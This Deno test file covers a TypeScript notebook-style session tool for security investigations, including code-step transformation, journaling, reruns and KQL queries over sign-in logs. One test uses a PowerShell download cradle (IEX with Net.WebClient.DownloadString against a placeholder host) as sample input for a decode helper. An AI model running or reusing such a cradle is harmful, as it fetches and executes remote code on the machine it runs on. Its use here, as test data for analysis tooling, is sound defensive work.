/**
 * Code steps run in one environment in every host: TypeScript text as typed in the REPL or
 * a notebook, with the whole casefile API, `pl`, `session`, `params` and `provider` in
 * scope and the earlier steps' variables; what they bind, read, import and print is
 * journaled, and resume and `rerun` run them the same way.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { openSession, type Session } from "../../src/session/session.ts";
import { kql } from "../../src/session/kql_template.ts";
import { param, ParamRef } from "../../src/session/params.ts";
import { CodeSyntaxError, EvaluationCancelled, StepError } from "../../src/session/errors.ts";
import { transformInput, typescript } from "../../src/session/_transform.ts";
import { openLocalProvider } from "../../src/providers/local/local_provider.ts";
import type { DataFrame } from "../../src/polars.ts";
import { tempFolder } from "../_helpers.ts";
import { SPRAY_IPS } from "./_export_fixture.ts";

const ts = await typescript();

async function demo(name: string, home?: string): Promise<Session> {
  return await openSession(name, {
    home: home ?? await tempFolder(),
    provider: await openLocalProvider(),
    params: { code: param.string("50126") },
  });
}

Deno.test("transformInput() turns top-level declarations into assignments", () => {
  const t = transformInput(ts, "const x: number = 1, { a, b: [c] } = o; let u;");
  assert.deepEqual(t.declared, ["x", "a", "c", "u"]);
  assert.ok(t.body.includes("x = 1;"), t.body);
  assert.ok(t.body.includes("({ a, b: [c] } = o);"), t.body);
  assert.ok(t.body.includes("u = undefined;"), t.body);
  assert.ok(!/\b(const|let)\s+(x|a|u)\b/.test(t.body), t.body);
  assert.equal(t.returnsExpression, false);
  assert.deepEqual(t.uses, ["o"]);
});

Deno.test("transformInput() hoists functions, rewrites imports and returns the last expression", () => {
  const t = transformInput(
    ts,
    'f(1);\nfunction f(n: number) { return n }\nimport d, { a as b } from "./m.ts";\nimport type { T } from "./t.ts";\nf(2)',
  );
  assert.deepEqual(t.declared, ["f", "d", "b"]);
  assert.ok(t.body.indexOf("f = function f") < t.body.indexOf("f(1)"), t.body);
  assert.ok(t.body.includes('__m0 = await __import("./m.ts"); d = __m0.default; b = __m0.a;'));
  assert.ok(!t.body.includes("./t.ts"), t.body);
  assert.ok(t.body.includes("return (f(2)"), t.body);
  assert.deepEqual(t.imports, ["./m.ts"]);
  assert.equal(t.definitionsOnly, false);
  assert.equal(transformInput(ts, "function g() {}\nconst h = () => 1").definitionsOnly, true);
});

Deno.test("transformInput() says which earlier names the code reads and which it rebinds", () => {
  const cases: [string, string[], string[]][] = [
    // [source, uses, assigned]
    ["const top = flows.head(3)", ["flows"], []],
    // Declaring a name from its own old value reads the old one.
    ["const flows = flows.filter(pl.col('n').gt(1))", ["flows", "pl"], []],
    ["const a = 1; a + b", ["b"], []],
    ["x = x.head(2)", ["x"], ["x"]],
    ["for (const r of rows) total += r.n", ["rows", "total"], ["total"]],
    // A parameter shadows the outer name inside its function only.
    ["rows.map((spray) => spray.n); spray.head()", ["rows", "spray"], []],
    ["rows.map((spray) => spray.n)", ["rows"], []],
    ["function f(a: number) { return a + base }\nconst y = f(2)", ["base"], []],
    ["try { risky() } catch (e) { console.log(e) }", ["risky"], []],
    ["{ a: spray, n }", ["spray", "n"], []],
    ["_.head(3)", ["_"], []],
    ["const t: DataFrame = make(Math.max(1, 2))", ["make"], []],
    ["count++", ["count"], ["count"]],
    // A function declaration is hoisted: calling it before it is written reads nothing outside.
    ["f(1)\nfunction f(n: number) { return n }", [], []],
  ];
  for (const [source, uses, assigned] of cases) {
    const t = transformInput(ts, source);
    assert.deepEqual(t.uses, uses, `uses of ${source}`);
    assert.deepEqual(t.assigned, assigned, `assigned of ${source}`);
  }
});

Deno.test("transformInput() reports a syntax error at its position", () => {
  assert.throws(() => transformInput(ts, "const a = 1;\nlet x = 1 +* 2"), (e: unknown) => {
    const err = e as CodeSyntaxError;
    assert.ok(err instanceof CodeSyntaxError);
    assert.deepEqual([err.line, err.column, err.span.start], [2, 12, 24]);
    assert.ok(err.message.startsWith("Expression expected."), err.message);
    return true;
  });
});

Deno.test("code given as text sees the whole API and the earlier steps, as in the REPL", async () => {
  const session = await demo("text");
  const spray = await session.query(
    "spray",
    kql`SigninLogs | where ResultType == ${session.params.code}
| where TimeGenerated between (datetime(2026-03-11) .. 1d)
| summarize Accounts = dcount(UserPrincipalName) by IPAddress | where Accounts >= 20
| order by IPAddress asc`,
  ) as DataFrame;
  assert.deepEqual(spray.getColumn("IPAddress").toArray(), SPRAY_IPS);
  // decode and buildProcessTree come from casefile without an import; params are references.
  const cradle =
    "IEX (New-Object Net.WebClient).DownloadString('https://cdn.edgeupdate-sync.example/a/u.ps1')";
  assert.equal(
    (await session.run("d", `const d = decode("${btoa(cradle)}")`)).decoded,
    cradle,
  );
  assert.equal(await session.run("n", "const n = spray.height"), 3);
  assert.equal(await session.run("_4", "params.code.value + '!'"), "50126!");
  assert.ok(session.variables.params instanceof Object);
  assert.ok((await session.run("p", "const p = params.code")) instanceof ParamRef);
  // A declaration can be made again; an expression becomes the step's value.
  assert.equal(await session.run("n", "const n = spray.height * 2"), 6);
  assert.equal(await session.run("_7", "n + 1"), 7);
  assert.deepEqual(
    session.steps().map((s) => [s.record.name, s.record.result?.kind]),
    [
      ["spray", "frame"],
      ["d", "json"],
      ["n", "json"],
      ["_4", "json"],
      ["p", "other"],
      ["n", "json"],
      ["_7", "json"],
    ],
  );
  // What each step read, with the step it came from.
  assert.deepEqual(session.step(3).record.uses, { spray: 1 });
  assert.deepEqual(session.step(7).record.uses, { n: 6 });
  await session.close();
});

Deno.test("a step that binds several names keeps them all, and they come back on resume", async () => {
  const home = await tempFolder();
  let session = await demo("multi", home);
  await session.query("alerts", "SecurityAlert | project AlertName, AlertSeverity");
  await session.run(
    "high",
    `const counts = alerts.groupBy("AlertSeverity").len().sort("AlertSeverity");
const high = counts.filter(pl.col("AlertSeverity").eq(pl.lit("High")))`,
  );
  let total = 0;
  await session.run("total", "let total = 0");
  await session.run("total", "for (const n of counts.getColumn('len').toArray()) total += n");
  total = session.value("total") as number;
  assert.equal(total, 15, "the demo case has 15 alerts (manifest.json)");
  const step = session.step("high").record;
  assert.deepEqual(step.binds, ["counts", "high"]);
  assert.equal(step.bound?.counts.kind, "frame");
  // Adding to `total` rebinds it: the fourth step's value, read from the third.
  assert.deepEqual(session.step(4).record.uses, { counts: 2, total: 3 });
  const counts = session.variables.counts as DataFrame;
  await session.close();

  session = await openSession("multi", { home, provider: await openLocalProvider() });
  assert.ok((session.variables.counts as DataFrame).frameEqual(counts));
  assert.equal(session.variables.total, 15);
  assert.deepEqual(Object.keys(session.scope()), ["alerts", "counts", "high", "total"]);
  await session.close();
});

Deno.test("what a step prints is journaled, and what it reads of chance is noted", async () => {
  const session = await demo("printed");
  await session.run(
    "_1",
    'console.log("found", 3, { ip: "203.0.113.45" }); console.table([{ a: 1 }])',
  );
  const output = session.step(1).record.output!;
  assert.match(output, /^found 3 \{ ip: "203\.0\.113\.45" \}\n/);
  assert.match(output, /│ \(index\) │ a │/);
  assert.equal(session.step(1).record.volatile, undefined);
  await session.run("r", "const r = Math.round(Math.random() * 0)");
  assert.equal(session.step(2).record.volatile, "uses Math.random()");
  await session.run("t", "const t = new Date().getFullYear() > 2000");
  assert.equal(session.step(3).record.volatile, "uses the current time");
  // A function step reaching for chance is caught at run time.
  await session.run("u", () => crypto.getRandomValues(new Uint8Array(1)).length);
  assert.equal(session.step(4).record.volatile, "uses crypto.getRandomValues()");
  await session.close();
});

Deno.test("a chart made in a code step is drawn into the session's folder", async () => {
  const session = await demo("chart");
  await session.query("alerts", "SecurityAlert | project TimeGenerated, AlertName, AlertSeverity");
  await session.run("bars", 'const bars = barChart(alerts, { category: "AlertSeverity" })');
  const chart = session.step("bars").record.chart!;
  assert.equal(chart.kind, "bar");
  const svg = await Deno.readTextFile(join(session.dir, chart.file));
  assert.match(svg, /^<svg[\s\S]*High[\s\S]*<\/svg>\s*$/);
  assert.equal(session.step("bars").record.result?.kind, "other");
  // A chart the code only writes to a file is the step's chart too.
  const png = join(await tempFolder(), "sev.png");
  await session.run(
    "_3",
    `await writeChart(barChart(alerts, { category: "AlertName", title: "By name" }), ${
      JSON.stringify(png)
    })`,
  );
  assert.equal(session.step(3).record.chart?.title, "By name");
  assert.match(
    await Deno.readTextFile(join(session.dir, session.step(3).record.chart!.file)),
    /By name/,
  );
  assert.ok((await Deno.stat(png)).size > 1000);
  await session.close();
});

Deno.test("imports a step makes are recorded, resolved, and run again on resume", async () => {
  const home = await tempFolder();
  const cwd = await tempFolder({
    "helper.ts": "export const triple = (n: number): number => n * 3;",
  });
  let session = await openSession("imports", { home, cwd });
  await session.run("triple", 'import { triple } from "./helper.ts"');
  await session.run("base", 'import { basename as base } from "node:path"');
  assert.equal(await session.run("_3", "triple(3) + base('/a/bc').length"), 11);
  assert.deepEqual(session.step(1).record.imports, [
    { specifier: "./helper.ts", url: `file://${join(cwd, "helper.ts")}` },
  ]);
  await session.close();
  // Functions are not stored: the import steps run again when the session opens.
  session = await openSession("imports", { home, cwd });
  assert.match(session.notices.join("\n"), /steps 1, 2: definitions run again/);
  assert.equal(await session.run("_4", "triple(4)"), 12);
  await session.close();
});

Deno.test("bad code is refused or journaled as failed; earlier variables stay", async () => {
  const session = await demo("bad");
  await session.run("kept", "const kept = 1");
  await assert.rejects(session.run("broken", "const broken = (null as any).x"), TypeError);
  assert.deepEqual(Object.keys(session.variables).filter((n) => n !== "_"), ["kept"]);
  await assert.rejects(session.run("pl", "const pl = 1"), StepError);
  await assert.rejects(session.run("x", "const x = 1 +* 2"), CodeSyntaxError);
  await assert.rejects(session.run("_5", "Promise.reject(new RangeError('no'))"), RangeError);
  assert.deepEqual(
    session.steps().map((s) => [s.record.name, s.record.status]),
    [["kept", "ok"], ["broken", "error"], ["x", "error"], ["_5", "error"]],
  );
  const controller = new AbortController();
  const running = session.run(
    "slow",
    "await new Promise((r) => { globalThis.slowTimer = setTimeout(r, 60_000) })",
    { signal: controller.signal },
  );
  // Aborted once the step is running (its timer set: the event, not a delay).
  while ((globalThis as { slowTimer?: number }).slowTimer === undefined) {
    await new Promise((r) => setTimeout(r, 0));
  }
  controller.abort();
  await assert.rejects(running, EvaluationCancelled);
  clearTimeout((globalThis as { slowTimer?: number }).slowTimer);
  await session.close();
});

Deno.test("rerun() runs text steps with the new parameter values, in the same scope", async () => {
  const session = await demo("rerun");
  await session.query(
    "fails",
    kql`SigninLogs | where ResultType == ${session.params.code} | summarize n = count() by IPAddress`,
  );
  await session.run("total", "const total = fails.getColumn('n').sum()");
  await session.run("share", "const share = total > 0 ? fails.height / total : 0");
  const before = session.value("total");
  // Independently: how many sign-ins failed with 50057 (a disabled account)?
  const direct = await (await openLocalProvider()).query(
    "SigninLogs | where ResultType == '50057' | count",
  );
  const expected = Number(direct.frame.getColumn("Count").toArray()[0]);
  await session.rerun("fails", { code: "50057" });
  assert.notEqual(session.value("total"), before);
  assert.equal(session.value("total"), expected);
  assert.equal(session.variables.total, expected);
  assert.equal(session.step("share").record.revision, 2);
  await session.close();
});

Deno.test("chance reached through an earlier step's function is noted too", async () => {
  const session = await demo("indirect");
  await session.run("roll", "function roll() { return Math.random() < 2 }");
  await session.run("v", "const v = roll()");
  assert.equal(session.step("v").record.volatile, "uses Math.random()");
  // A query on the local engine that draws random numbers is volatile by its text.
  await session.query("r", "print x = rand() < 2");
  assert.equal(session.step("r").record.volatile, "rand() draws random numbers");
  await session.close();
});

Deno.test("rerun() gives each step the variables it had: later steps' names are not in reach", async () => {
  const session = await demo("reach");
  await session.run("a", "const a = 1");
  await session.run("seen", 'const seen = typeof later === "undefined" ? "fresh" : "stale"');
  await session.run("later", "const later = 5");
  assert.equal(session.value("seen"), "fresh");
  await session.rerun("seen");
  assert.equal(session.value("seen"), "fresh");
  assert.equal(session.variables.later, 5);
  await session.close();
});

Deno.test("rerun() runs text that starts with a parenthesis as text, not as a function", async () => {
  const session = await demo("parens");
  await session.run("obj", "({ n: 1 + 1 })");
  await session.run("sum", "(2 + 3) * 2");
  assert.deepEqual(session.value("obj"), { n: 2 });
  await session.rerun("obj");
  assert.deepEqual(session.value("obj"), { n: 2 });
  assert.equal(session.value("sum"), 10);
  await session.close();
});

Deno.test("a query result kept as a value hashes by what it holds, not how long it took", async () => {
  const session = await demo("results");
  await session.run("a", 'const a = await provider.query("SecurityAlert | count")');
  await session.run("b", 'const b = await provider.query("SecurityAlert | count")');
  await session.run("c", 'const c = await provider.query("SecurityAlert | take 1 | count")');
  const sha = (n: string) => (session.step(n).record.result as { sha256?: string }).sha256;
  assert.ok(sha("a"));
  assert.equal(sha("a"), sha("b"));
  assert.notEqual(sha("a"), sha("c"));
  await session.close();
});
